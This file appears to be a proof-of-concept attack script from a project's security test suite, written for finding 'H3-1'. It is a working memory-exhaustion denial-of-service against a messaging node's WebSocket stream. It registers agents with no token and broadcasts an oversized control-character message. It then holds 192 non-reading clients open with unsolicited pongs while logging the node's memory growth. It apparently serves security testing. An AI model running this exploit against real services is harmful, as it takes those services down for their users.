// PoC (finding H3-1): stream clients that never read hold the node's memory with no event ever firing.
// Any loopback user (no token: registration is open on loopback) sends ONE broadcast message whose body is
// control characters (each written \u00XX, 6 bytes, in JSON), so that the newest message's JSON is ~2 MiB; the
// snapshot every new stream client gets always includes the newest message, whatever snapshot.messageBytes says.
// Then it opens the anonymous stream slots (192) and never reads; an unsolicited pong every 15 s keeps the pinger
// from dropping them. The node's only bound on a client's buffer (stream.maxBufferedBytes) is checked when an event is
// broadcast, so on a quiet node nothing ever drops them.
// With events > 0, that many more such messages are then broadcast: each client takes one ~1 MB event in userland
// while its buffer is still under 1 MiB (the check is `>`, before the send), so each holds up to ~2 MB in the heap.
// usage: node test/attack-scripts/ws-snapshot-hold.mjs <port> <pid> [clients=192] [holdSeconds=70] [anonymous=0|1] [events=0]
import net from 'node:net'
import crypto from 'node:crypto'
import fs from 'node:fs'
import { execSync } from 'node:child_process'
const [port, pid, nClients = '192', holdS = '70', anon = '0', nEvents = '0'] = process.argv.slice(2)
const base = `http://127.0.0.1:${port}`
const status = () => fs.readFileSync(`/proc/${pid}/status`, 'utf8')
const rss = () => Number(/VmRSS:\s+(\d+)/.exec(status())[1]) / 1024
const hwm = () => Number(/VmHWM:\s+(\d+)/.exec(status())[1]) / 1024
const cpu = () => {
  const f = fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ')
  return (Number(f[11]) + Number(f[12])) / 100
}
const kq = () =>
  execSync(`ss -tnH state established '( sport = :${port} )'`)
    .toString()
    .split('\n')
    .reduce((n, l) => n + Number(l.trim().split(/\s+/)[1] ?? 0), 0)
const sleep = (ms) => new Promise((r) => setTimeout(r, ms))
let open = 0
const log = (what) =>
  console.log(
    `${what}: node RSS ${rss().toFixed(0)} MB (peak ${hwm().toFixed(0)}), cpu ${cpu().toFixed(1)} s, ` +
      `kernel send queues ${(kq() / 1048576).toFixed(0)} MB, clients held ${open}`,
  )
async function post(path, body, bearer) {
  const headers = { 'content-type': 'application/json' }
  if (bearer) headers.authorization = `Bearer ${bearer}`
  const r = await fetch(base + path, { method: 'POST', headers, body: JSON.stringify(body) })
  return { status: r.status, body: await r.json().catch(() => null) }
}
function mask(opcode, payload) {
  const m = crypto.randomBytes(4)
  return Buffer.concat([
    Buffer.from([0x80 | opcode, 0x80 | payload.length]),
    m,
    Buffer.from(payload.map((b, i) => b ^ m[i % 4])),
  ])
}
const PONG = mask(0xa, Buffer.alloc(0))
const refused = {}
function openClient(bearer) {
  return new Promise((resolve) => {
    const s = net.connect(Number(port), '127.0.0.1')
    s.on('error', () => undefined)
    s.write(
      `GET / HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
        (bearer ? `Authorization: Bearer ${bearer}\r\n` : '') +
        `Sec-WebSocket-Key: ${crypto.randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n\r\n`,
    )
    s.once('data', (d) => {
      const line = d.toString('latin1').split('\r\n')[0]
      if (!line.startsWith('HTTP/1.1 101')) {
        refused[line] = (refused[line] ?? 0) + 1
        s.destroy()
        return resolve(undefined)
      }
      s.pause() // never read again
      open++
      s.on('close', () => open--)
      const t = setInterval(() => s.writable && process.env.NO_PONG !== '1' && s.write(PONG), 15_000) // unsolicited pongs: RFC 6455 allows them (NO_PONG=1: none)
      s.on('close', () => clearInterval(t))
      resolve(s)
    })
  })
}
log('idle node')
const creds = []
for (let i = 0; i < 4; i++) {
  const r = await post('/agents/register', { name: `h3-${crypto.randomBytes(3).toString('hex')}` }) // no token
  if (r.status === 201) creds.push({ did: r.body.identity.did, cred: r.body.identity.credential })
}
const body = '\u0001'.repeat(170_000) // 1,020,000 bytes of POST JSON: under the 1 MiB body limit
const sent = await post('/messages/send', { fromDid: creds[0].did, toDid: null, message: body }, creds[0].cred)
console.log('one broadcast message sent:', sent.status)
const snap = await (await fetch(base + '/snapshot')).text()
console.log(`GET /snapshot is ${(snap.length / 1048576).toFixed(2)} MiB (snapshot.messageBytes is 1 MiB)`)
log('before the clients')
const sockets = []
for (let i = 0; i < Number(nClients); i++) {
  const s = await openClient(anon === '1' ? undefined : creds[Math.floor(i / 55) % creds.length].cred)
  if (s) sockets.push(s)
  else if (anon === '1') {
    await sleep(1000)
    i--
  } // anonymous: wait for the loopback bucket (60/min)
  if (i % 48 === 47) log(`${i + 1} clients`)
}
console.log('upgrades refused:', refused)
log('all clients connected')
for (let i = 0; i < Number(nEvents); i++) {
  const c = creds[(i + 1) % creds.length]
  const r = await post('/messages/send', { fromDid: c.did, toDid: null, message: body }, c.cred)
  log(`event ${i + 1} (send ${r.status})`)
}
for (let t = 15; t <= Number(holdS); t += 15) {
  await sleep(15_000)
  log(`held ${t} s`)
}
const m = await (await fetch(base + '/metrics')).text().catch(() => '')
console.log(
  m
    .split('\n')
    .filter((l) => l.startsWith('meshsig_websocket'))
    .join('\n') || '(metrics need the token)',
)
for (const s of sockets) s.destroy()
await sleep(2000)
log('clients closed')
